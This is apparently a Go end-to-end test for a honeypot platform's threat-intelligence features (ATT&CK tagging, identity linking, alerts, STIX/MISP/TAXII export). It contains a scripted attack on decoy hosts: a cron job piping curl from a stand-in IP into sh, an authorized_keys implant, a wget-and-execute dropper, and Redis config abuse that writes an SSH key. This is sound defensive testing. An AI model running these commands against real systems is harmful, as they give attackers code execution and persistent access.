package master_test

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/decnet/decnet/internal/intel/misp/misptest"
	"github.com/decnet/decnet/internal/intel/stix/stixtest"
	"github.com/decnet/decnet/internal/store"
	"github.com/decnet/decnet/internal/testenv"
)

// TestIntelligenceEndToEnd is the acceptance of the intelligence layer on
// `decnet up`: a scripted attack with real clients (ssh with a client key
// and then the gateway's password, a cron and an authorized_keys implant
// and a wget of a dropper in the shell, redis-cli writing authorized_keys
// on the database decky) from one address, and the same client key from a
// second address. The attacker carries the expected ATT&CK techniques,
// one identity links the two addresses by their key, an alert rule made
// through the API reaches a webhook, and `decnet intel rebuild`
// reproduces the same tags and identities.
func TestIntelligenceEndToEnd(t *testing.T) {
	testenv.RequireRoot(t)
	sshpass := testenv.RequireTool(t, "sshpass")
	keygen := testenv.RequireTool(t, "ssh-keygen")
	redisCLI := testenv.RequireTool(t, "redis-cli")
	bin := testenv.DecnetBinary(t)
	up, c, h := upWithWebhook(t, bin)
	c.do("POST", "/alert-rules", map[string]any{"name": "cron implant", "severity": 3,
		"match": map[string]any{"types": []string{"*.command.input"}, "tags": []string{"T1053.003"}}}, 201)

	key := filepath.Join(t.TempDir(), "id_ed25519")
	if out, err := exec.Command(keygen, "-q", "-t", "ed25519", "-N", "", "-C", "op@kali", "-f", key).CombinedOutput(); err != nil {
		t.Fatalf("ssh-keygen: %v %s", err, out)
	}
	sshArgs := func(src string, extra ...string) []string {
		return append([]string{"-b", src, "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=10",
			"-o", "IdentitiesOnly=yes", "-i", key}, extra...)
	}
	const a, b = "127.0.0.1", "127.0.0.2"
	// The key is refused on the decky (it accepts passwords only), from
	// both addresses.
	for _, src := range []string{a, b} {
		out, err := exec.Command("ssh", append(sshArgs(src, "-o", "PreferredAuthentications=publickey", "-o", "BatchMode=yes"), "root@"+up.Gateway, "id")...).CombinedOutput()
		if err == nil || !strings.Contains(string(out), "denied") {
			t.Fatalf("the key from %s was not refused: %v %s", src, err, out)
		}
	}
	// Then the password, and the implants.
	script := strings.Join([]string{
		"uname -a",
		`(crontab -l; echo "*/5 * * * * curl -fsSL http://198.51.100.77/k.sh | sh") | crontab -`,
		"mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOpPersistKey op@kali' >> ~/.ssh/authorized_keys",
		"cd /tmp && wget http://198.51.100.77/bins/x86_64 -O .x && chmod +x .x && ./.x",
	}, "\n")
	cmd := exec.Command(sshpass, append([]string{"-p", "toor", "ssh"}, sshArgs(a, "-o", "PreferredAuthentications=password", "-T", "root@"+up.Gateway)...)...)
	cmd.Stdin = strings.NewReader(script + "\nexit\n")
	// The session ends with wget's exit status (4: the dropper's server
	// refused), as it would on a real host.
	if out, _ := cmd.CombinedOutput(); !strings.Contains(string(out), "Connecting to 198.51.100.77:80... failed") {
		t.Fatalf("the ssh session: %s", out)
	}
	db := deckyAddress(t, c, "db-01")
	for _, args := range [][]string{{"config", "set", "dir", "/root/.ssh"}, {"config", "set", "dbfilename", "authorized_keys"},
		{"set", "x", "\n\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOpPersistKey op@kali\n\n"}, {"save"}} {
		if out, err := exec.Command(redisCLI, append([]string{"-h", db, "--no-auth-warning"}, args...)...).CombinedOutput(); err != nil {
			t.Fatalf("redis-cli %v: %v %s", args, err, out)
		}
	}

	wantTechniques := []string{"T1021.004", "T1053.003", "T1059.004", "T1078", "T1082", "T1098.004", "T1105"}
	var att store.Attacker
	testenv.Eventually(t, 30*time.Second, "the attacker's techniques", func() bool {
		var l struct{ Items []store.Attacker }
		json.Unmarshal(c.do("GET", "/attackers", nil, 200), &l)
		i := slices.IndexFunc(l.Items, func(x store.Attacker) bool { return x.IP == a })
		if i < 0 {
			return false
		}
		att = l.Items[i]
		var have []string
		for _, x := range att.Techniques {
			if x.ID == "T1098.004" && x.Events < 2 {
				return false // the shell's implant and redis's: both tagged, so the snapshot below is final
			}
			have = append(have, x.ID)
		}
		for _, w := range wantTechniques {
			if !slices.Contains(have, w) {
				return false
			}
		}
		return true
	})
	var ids struct {
		Items []store.Identity `json:"items"`
	}
	testenv.Eventually(t, 30*time.Second, "an identity of both addresses", func() bool {
		json.Unmarshal(c.do("GET", "/identities", nil, 200), &ids)
		return len(ids.Items) == 1 && slices.Equal(ids.Items[0].Sources, []string{a, b})
	})
	ident := ids.Items[0]
	if !slices.Equal(ident.Kinds, []string{"ssh_key"}) {
		t.Fatalf("identity %+v: want linked by ssh_key", ident)
	}
	var detail store.IdentityDetail
	json.Unmarshal(c.do("GET", "/identities/"+ident.ID, nil, 200), &detail)
	fp := strings.Fields(runOut(t, keygen, "-l", "-E", "sha256", "-f", key+".pub"))[1]
	if len(detail.Links) != 1 || detail.Links[0].Reasons[0].Value != fp {
		t.Fatalf("identity links %+v, want the key %s", detail.Links, fp)
	}
	json.Unmarshal(c.do("GET", "/attackers/"+a, nil, 200), &att)
	if att.Identity != ident.ID || att.Score == 0 {
		t.Fatalf("attacker %s: identity %q score %d", a, att.Identity, att.Score)
	}
	var linked struct {
		Items []store.Attacker `json:"items"`
	}
	json.Unmarshal(c.do("GET", "/attackers?identity="+ident.ID+"&sort=score", nil, 200), &linked)
	if len(linked.Items) != 2 || linked.Items[0].IP != a {
		t.Fatalf("attackers of the identity by score: %+v", linked.Items)
	}
	testenv.Eventually(t, 30*time.Second, "the alert at the webhook", func() bool { return h.count() > 0 })
	var alerts struct {
		Items []store.Alert `json:"items"`
	}
	json.Unmarshal(c.do("GET", "/alerts", nil, 200), &alerts)
	if len(alerts.Items) != 1 || alerts.Items[0].Source != a {
		t.Fatalf("alerts %+v", alerts.Items)
	}
	at := h.raised[0]
	t.Logf("techniques %v; identity %s of %v by %s; alert at the webhook %v after it was raised",
		wantTechniques, ident.ID, ident.Sources, fp, at.Sub(alerts.Items[0].CreatedAt).Round(time.Millisecond))
	h.mu.Lock()
	bodies := strings.Join(h.bodies, "\n")
	h.mu.Unlock()
	if !strings.Contains(bodies, `"type":"decnet.identity.linked"`) {
		t.Fatalf("the webhook did not get decnet.identity.linked")
	}

	exportsAndTAXII(t, c, up.API, ident.ID, a)
	var layer struct {
		Name       string `json:"name"`
		Techniques []struct {
			ID string `json:"techniqueID"`
		} `json:"techniques"`
	}
	json.Unmarshal(c.do("GET", "/identities/"+ident.ID+"/attack-layer", nil, 200), &layer)
	if !slices.ContainsFunc(layer.Techniques, func(x struct {
		ID string `json:"techniqueID"`
	}) bool {
		return x.ID == "T1098.004"
	}) {
		t.Fatalf("the identity's Navigator layer: %+v", layer)
	}

	// A rebuild reproduces the tags and the identity.
	if err := up.Stop(t); err != nil {
		t.Fatalf("decnet up did not stop: %v", err)
	}
	out, err := exec.Command(bin, "intel", "rebuild", "--data", up.Data, "--log-level", "error").CombinedOutput()
	if err != nil {
		t.Fatalf("decnet intel rebuild: %v %s", err, out)
	}
	cliBundle, err := exec.Command(bin, "intel", "export", "--data", up.Data, "--log-level", "error", "--identity", ident.ID).Output()
	if err != nil {
		t.Fatalf("decnet intel export: %v", err)
	}
	if err := stixtest.Validate(cliBundle); err != nil || !strings.Contains(string(cliBundle), ident.ID) {
		t.Fatalf("decnet intel export: %v\n%.500s", err, cliBundle)
	}
	up2 := testenv.StartUpIn(t, bin, up.Data)
	c = newUpClient(t, up2.API)
	c.do("POST", "/auth/login", map[string]string{"username": "admin", "password": upAdminPassword}, 200)
	var ids2 struct {
		Items []store.Identity `json:"items"`
	}
	json.Unmarshal(c.do("GET", "/identities", nil, 200), &ids2)
	if len(ids2.Items) != 1 || ids2.Items[0].ID != ident.ID || !slices.Equal(ids2.Items[0].Sources, ident.Sources) {
		t.Fatalf("after the rebuild: identities %+v, want %+v", ids2.Items, ident)
	}
	var att2 store.Attacker
	json.Unmarshal(c.do("GET", "/attackers/"+a, nil, 200), &att2)
	if !equalTechniques(att.Techniques, att2.Techniques) {
		t.Fatalf("after the rebuild: techniques %+v, want %+v", att2.Techniques, att.Techniques)
	}
	json.Unmarshal(c.do("GET", "/alerts", nil, 200), &alerts)
	if len(alerts.Items) != 1 {
		t.Fatalf("after the rebuild: %d alerts", len(alerts.Items))
	}
	t.Logf("rebuild: %s", strings.TrimSpace(string(out)))
}

func equalTechniques(x, y []store.TechniqueCount) bool {
	if len(x) != len(y) {
		return false
	}
	for i := range x {
		if x[i].ID != y[i].ID || x[i].Events != y[i].Events {
			return false
		}
	}
	return true
}

func runOut(t *testing.T, name string, args ...string) string {
	t.Helper()
	out, err := exec.Command(name, args...).CombinedOutput()
	if err != nil {
		t.Fatalf("%s %v: %v %s", name, args, err, out)
	}
	return string(out)
}

// deckyAddress is the address of a decky of the demo topology.
func deckyAddress(t *testing.T, c *upClient, name string) string {
	t.Helper()
	var tops struct {
		Items []struct {
			ID string `json:"id"`
		} `json:"items"`
	}
	json.Unmarshal(c.do("GET", "/topologies", nil, 200), &tops)
	for _, tp := range tops.Items {
		var d struct {
			Spec struct {
				Deckies []struct {
					Name      string `json:"name"`
					Addresses []struct {
						IP string `json:"ip"`
					} `json:"addresses"`
				} `json:"deckies"`
			} `json:"spec"`
		}
		json.Unmarshal(c.do("GET", "/topologies/"+tp.ID, nil, 200), &d)
		for _, dk := range d.Spec.Deckies {
			if dk.Name == name && len(dk.Addresses) > 0 {
				return dk.Addresses[0].IP
			}
		}
	}
	t.Fatalf("no decky %s in the topologies", name)
	return ""
}

// exportsAndTAXII checks the threat-intelligence exports of the attack:
// the identity's STIX bundle and the attacker's MISP event validate
// against what OASIS and MISP publish and hold the attack, the MISP event
// is pushed to a stand-in MISP, and a TAXII client's sequence (discovery,
// API root, collections, objects page by page, then added_after) gets
// the same objects.
func exportsAndTAXII(t *testing.T, c *upClient, apiURL, identity, attacker string) {
	t.Helper()
	bundle := c.do("GET", "/exports/stix?identity="+identity, nil, 200)
	if err := stixtest.Validate(bundle); err != nil {
		t.Fatalf("the STIX bundle does not validate: %v", err)
	}
	for _, want := range []string{`"type":"threat-actor"`, `"external_id":"T1053.003"`, `x-decnet-ssh-key:fingerprint`, `"type":"sighting"`,
		`"relationship_type":"uses"`, `[ipv4-addr:value = '` + attacker + `']`} {
		if !strings.Contains(string(bundle), want) {
			t.Fatalf("the STIX bundle lacks %s", want)
		}
	}
	event := c.do("GET", "/exports/misp?attacker="+attacker, nil, 200)
	if err := misptest.Validate(event); err != nil {
		t.Fatalf("the MISP event does not validate: %v", err)
	}
	for _, want := range []string{`mitre-attack-pattern=\"Cron - T1053.003\"`, `"type":"ssh-fingerprint"`, `"value":"http://198.51.100.77/bins/x86_64"`,
		`"name":"network-connection"`, `"name":"file"`, `"value":"toor"`, `"object_relation":"password"`} {
		if !strings.Contains(string(event), want) {
			t.Fatalf("the MISP event lacks %s:\n%.2000s", want, event)
		}
	}
	var got struct {
		sync.Mutex
		calls []string
	}
	mispSrv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		got.Lock()
		got.calls = append(got.calls, r.Method+" "+r.URL.Path+" "+r.Header.Get("Authorization"))
		got.Unlock()
		if r.Header.Get("Authorization") != "misp-key-0123456789abcdef" || misptest.Validate(b) != nil {
			w.WriteHeader(http.StatusBadRequest)
			return
		}
		io.WriteString(w, `{"Event":{"id":"1","uuid":"x"}}`)
	}))
	defer mispSrv.Close()
	c.do("POST", "/exports/misp/push", map[string]any{"url": mispSrv.URL, "api_key": "misp-key-0123456789abcdef", "attacker": attacker}, 502) // private: refused
	c.do("POST", "/exports/misp/push", map[string]any{"url": mispSrv.URL, "api_key": "misp-key-0123456789abcdef", "attacker": attacker, "allow_private": true}, 200)
	if len(got.calls) != 1 || got.calls[0] != "POST /events/add misp-key-0123456789abcdef" {
		t.Fatalf("MISP got %v", got.calls)
	}

	// TAXII, with an API token.
	var tok struct {
		Token string `json:"token"`
	}
	json.Unmarshal(c.do("POST", "/tokens", map[string]string{"name": "tip"}, 201), &tok)
	base := strings.TrimSuffix(apiURL, "/api/v1")
	taxiiGet := func(path, auth string, want int) (http.Header, map[string]any) {
		t.Helper()
		req, _ := http.NewRequest("GET", base+path, nil)
		req.Header.Set("Accept", "application/taxii+json;version=2.1")
		if auth != "" {
			req.Header.Set("Authorization", auth)
		}
		resp, err := c.hc.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		var body map[string]any
		json.NewDecoder(resp.Body).Decode(&body)
		if resp.StatusCode != want || !strings.HasPrefix(resp.Header.Get("Content-Type"), "application/taxii+json") {
			t.Fatalf("GET %s: %s %s %v", path, resp.Status, resp.Header.Get("Content-Type"), body)
		}
		return resp.Header, body
	}
	bearer := "Bearer " + tok.Token
	taxiiGet("/taxii2/", "", 401)
	_, disc := taxiiGet("/taxii2/", bearer, 200)
	root := disc["api_roots"].([]any)[0].(string)
	_, rootInfo := taxiiGet(root, bearer, 200)
	if fmt.Sprint(rootInfo["versions"]) != "[application/taxii+json;version=2.1]" {
		t.Fatalf("api root %v", rootInfo)
	}
	_, cols := taxiiGet(root+"collections/", "Basic "+base64.StdEncoding.EncodeToString([]byte("tip:"+tok.Token)), 200)
	col := cols["collections"].([]any)[0].(map[string]any)["id"].(string)
	objs := map[string]bool{}
	next, pages, last := "", 0, ""
	for {
		q := "?limit=10"
		if next != "" {
			q += "&next=" + next
		}
		h, page := taxiiGet(root+"collections/"+col+"/objects/"+q, bearer, 200)
		for _, o := range page["objects"].([]any) {
			objs[o.(map[string]any)["id"].(string)] = true
		}
		pages++
		last = h.Get("X-TAXII-Date-Added-Last")
		if page["more"] != true {
			break
		}
		next = page["next"].(string)
	}
	var b struct {
		Objects []map[string]any `json:"objects"`
	}
	json.Unmarshal(c.do("GET", "/exports/stix?since="+time.Now().Add(-time.Hour).UTC().Format(time.RFC3339), nil, 200), &b)
	for _, o := range b.Objects {
		if !objs[o["id"].(string)] {
			t.Fatalf("TAXII lacks %s (%v) of the export", o["id"], o["type"])
		}
	}
	_, after := taxiiGet(root+"collections/"+col+"/objects/?added_after="+last, bearer, 200)
	if n := len(after["objects"].([]any)); n != 0 {
		t.Fatalf("added_after the last: %d objects", n)
	}
	t.Logf("STIX bundle of %s and MISP event of %s validate; pushed to MISP; TAXII served %d objects in %d pages, none added after %s",
		identity, attacker, len(objs), pages, last)
}
